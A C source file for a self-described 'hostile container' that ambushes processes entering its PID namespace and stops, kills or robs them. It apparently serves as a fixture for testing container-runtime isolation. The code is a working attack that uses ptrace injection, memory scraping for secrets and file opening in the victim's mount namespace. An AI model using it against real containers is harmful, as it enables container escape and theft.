// SPDX-License-Identifier: Apache-2.0
/*
 * A hostile container: lies in wait for whoever appears in its PID namespace
 * from outside, and takes from it what it can get.
 *
 *	stop		SIGSTOP it, and leave it so
 *	kill		SIGKILL it
 *	rob FILE TEXT	trace it; look for FILE below its root and in its mount
 *			namespace, and for TEXT in its memory; make it open FILE.
 *			Prints what it has and is, a fact a line, and "end".
 *
 * Prints "ready" first, and in the end what it has done. To be number 1 of the
 * namespace and alone in it: it makes it large first, so that looking around in
 * it takes a while.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <elf.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

enum {
	FAILED = 222,
	MAX_PATH = 512,
	MAX_CHUNK = 1 << 22,
	NUMBERS = 10000, /* that have been given away */
	LIVING = 50,
	PATIENCE = 10000,
};

static const char *const fields[] = { "Uid",	"Gid",	      "Groups",	"CapInh",
				      "CapPrm", "CapEff",     "CapBnd", "CapAmb",
				      "NoNewPrivs", "Seccomp" };

static const char *path_of(pid_t nr, const char *format, ...)
{
	static char paths[4][MAX_PATH];
	static unsigned int turn;
	char *path = paths[turn++ % 4];
	int length = snprintf(path, MAX_PATH, "/proc/%d/", nr);
	va_list args;

	va_start(args, format);
	vsnprintf(path + length, MAX_PATH - length, format, args);
	va_end(args);
	return path;
}

static const char *outcome(int fd)
{
	if (fd < 0)
		return strerror(errno);
	close(fd);
	return "OPENED";
}

static void tell_status(pid_t nr)
{
	FILE *file = fopen(path_of(nr, "status"), "re");
	char line[256];

	while (file && fgets(line, sizeof(line), file)) {
		for (size_t i = 0; i < sizeof(fields) / sizeof(*fields); i++) {
			size_t length = strlen(fields[i]);

			if (!strncmp(line, fields[i], length) &&
			    line[length] == ':')
				printf("status %s", line);
		}
	}
	if (file)
		fclose(file);
}

static void tell_links(const char *what, const char *directory)
{
	DIR *dir = opendir(directory);
	struct dirent *entry;

	if (!dir) {
		printf("%s not opened: %s\n", what, strerror(errno));
		return;
	}
	while ((entry = readdir(dir))) {
		char target[MAX_PATH] = "";

		if (entry->d_name[0] == '.')
			continue;
		if (readlinkat(dirfd(dir), entry->d_name, target,
			       sizeof(target) - 1) < 0)
			strcpy(target, "?");
		printf("%s %s %s\n", what, entry->d_name, target);
	}
	closedir(dir);
}

/* Where it is, what it runs, and whether that can be written to. */
static void tell_files(pid_t nr, const char *file)
{
	char target[MAX_PATH] = "";

	tell_links("fd", path_of(nr, "fd"));
	tell_links("ns", path_of(nr, "ns"));
	tell_links("root", path_of(nr, "root/"));
	tell_links("cwd", path_of(nr, "cwd/"));
	printf("file %s\n",
	       outcome(open(path_of(nr, "root%s", file), O_RDONLY | O_CLOEXEC)));
	if (readlink(path_of(nr, "exe"), target, sizeof(target) - 1) > 0)
		printf("exe %s\n", target);
	printf("write exe %s\n",
	       outcome(open(path_of(nr, "exe"), O_WRONLY | O_CLOEXEC)));
}

static bool has(const char *bytes, ssize_t length, const char *text)
{
	return length > 0 && memmem(bytes, length, text, strlen(text));
}

/* All that is mapped: whose it is, and whether the text is in there. */
static void tell_memory(pid_t nr, const char *text)
{
	FILE *maps = fopen(path_of(nr, "maps"), "re");
	int memory = open(path_of(nr, "mem"), O_RDONLY | O_CLOEXEC);
	char *bytes = malloc(MAX_CHUNK), line[MAX_PATH];
	bool found = false;

	while (maps && fgets(line, sizeof(line), maps)) {
		unsigned long begin, end;
		int name = 0;

		if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %n", &begin, &end,
			   &name) < 2)
			continue;
		printf("map %s", name && line[name] ? line + name : "\n");
		for (; begin < end; begin += MAX_CHUNK) {
			size_t length = end - begin < MAX_CHUNK ? end - begin :
								  MAX_CHUNK;
			struct iovec ours = { bytes, length };
			struct iovec its = { (void *)begin, length };

			found |= has(bytes,
				     process_vm_readv(nr, &ours, 1, &its, 1, 0),
				     text);
			found |= has(bytes, pread(memory, bytes, length, begin),
				     text);
		}
	}
	printf("text %s\n", found ? "FOUND" : "not found");
	if (maps)
		fclose(maps);
	close(memory);
	free(bytes);
}

/* In a child: who is in another mount namespace does not come back. */
static void tell_mounts(pid_t nr, const char *file)
{
	int fd = open(path_of(nr, "ns/mnt"), O_RDONLY | O_CLOEXEC);
	pid_t child;

	fflush(stdout);
	child = fork();
	if (!child) {
		if (setns(fd, CLONE_NEWNS))
			printf("mounts not entered: %s\n", strerror(errno));
		else
			printf("mounts %s\n",
			       outcome(open(file, O_RDONLY | O_CLOEXEC)));
		fflush(stdout);
		_exit(0);
	}
	close(fd);
	waitpid(child, NULL, 0);
}

static unsigned long text_of(pid_t nr)
{
	FILE *maps = fopen(path_of(nr, "maps"), "re");
	unsigned long begin, end, found = 0;
	char line[MAX_PATH], mode[5];

	while (maps && !found && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx %4s", &begin, &end, mode) == 3 &&
		    mode[2] == 'x')
			found = begin;
	if (maps)
		fclose(maps);
	return found;
}

/* Its next instruction is open(FILE), written over what it was about to do. */
static void make_it_open(pid_t nr, const char *file)
{
#ifdef __x86_64__
	struct user_regs_struct regs;
	struct iovec iov = { &regs, sizeof(regs) };
	unsigned long at = text_of(nr);
	char words[MAX_PATH] = "";
	int status;

	memcpy(words, "\x0f\x05\0\0\0\0\0", 8); /* syscall */
	snprintf(words + 8, sizeof(words) - 8, "%s", file);
	for (size_t i = 0; i < 8 + strlen(file) + 8; i += 8)
		ptrace(PTRACE_POKEDATA, nr, at + i, *(long *)(words + i));
	if (ptrace(PTRACE_GETREGSET, nr, NT_PRSTATUS, &iov))
		return;
	regs.rip = at;
	regs.rax = SYS_open;
	regs.orig_rax = -1;
	regs.rdi = at + 8;
	regs.rsi = regs.rdx = 0;
	ptrace(PTRACE_SETREGSET, nr, NT_PRSTATUS, &iov);
	ptrace(PTRACE_SINGLESTEP, nr, 0, 0);
	waitpid(nr, &status, __WALL);
	if (WIFSTOPPED(status)) {
		ptrace(PTRACE_GETREGSET, nr, NT_PRSTATUS, &iov);
		printf("made to open %s\n",
		       (long)regs.rax < 0 ? strerror(-regs.rax) : "OPENED");
	} else {
		printf("made to open killed by %d\n", WTERMSIG(status));
	}
#else
	(void)nr, (void)file, (void)text_of;
#endif
}

static void rob(pid_t nr, const char *file, const char *text)
{
	bool attached = !ptrace(PTRACE_ATTACH, nr, 0, 0);

	printf("attached %s\n", attached ? "ATTACHED" : strerror(errno));
	if (attached)
		waitpid(nr, NULL, __WALL);
	else
		kill(nr, SIGSTOP);
	tell_status(nr);
	tell_files(nr, file);
	tell_memory(nr, text);
	tell_mounts(nr, file);
	if (attached)
		make_it_open(nr, file);
	kill(nr, SIGKILL); /* it stays dead: nobody waits for it who traces it */
	puts("end");
}

static void make_it_large(void)
{
	for (int i = 0; i < NUMBERS + LIVING; i++) {
		pid_t child = fork();

		if (child < 0)
			err(FAILED, "fork");
		if (!child && i >= NUMBERS)
			pause();
		if (!child)
			_exit(0);
		if (i < NUMBERS)
			waitpid(child, NULL, 0);
	}
}

/* The number that was given last: who came and went unseen has had his. */
static pid_t last_number(int fd)
{
	char text[16] = "";

	if (pread(fd, text, sizeof(text) - 1, 0) <= 0)
		err(FAILED, "ns_last_pid");
	return atoi(text);
}

/* Gives back whoever is born next, and has been sent the signal. */
static pid_t next_one(int last, int number)
{
	for (;;) {
		pid_t next = last_number(last) + 1;

		while (last_number(last) < next)
			;
		/* A number is given away a little before somebody has it. */
		for (int i = 0; i < PATIENCE; i++)
			if (!kill(next, number))
				return next;
	}
}

int main(int argc, char **argv)
{
	int last = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	const char *verb = argc > 1 ? argv[1] : "";
	int number = !strcmp(verb, "stop") ? SIGSTOP :
		     !strcmp(verb, "kill") ? SIGKILL :
					     0;
	bool robs = argc == 4 && !strcmp(verb, "rob");

	if (!robs && !number)
		errx(FAILED, "stop, kill or rob FILE TEXT");
	make_it_large();
	puts("ready");
	for (;;) {
		pid_t nr;

		fflush(stdout);
		nr = next_one(last, number);
		if (robs)
			rob(nr, argv[2], argv[3]);
		else
			printf("%s %d\n", verb, nr);
	}
}
